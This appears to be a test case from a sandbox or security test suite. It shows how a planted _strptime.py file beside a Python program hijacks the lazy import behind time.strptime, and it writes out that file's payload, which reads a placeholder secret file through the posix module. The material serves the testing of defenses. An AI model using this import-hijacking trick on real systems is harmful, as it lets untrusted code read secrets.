# technique: a file beside the program bears the name of a module that trusted code imports lazily (time.strptime)
# goal: read-secret
# source: sys.path[0]
# beside: _strptime.py import posix; print(posix.read(posix.open('@SECRET@', 0), 200), flush=True)
import time
time.strptime('2024', '%Y')
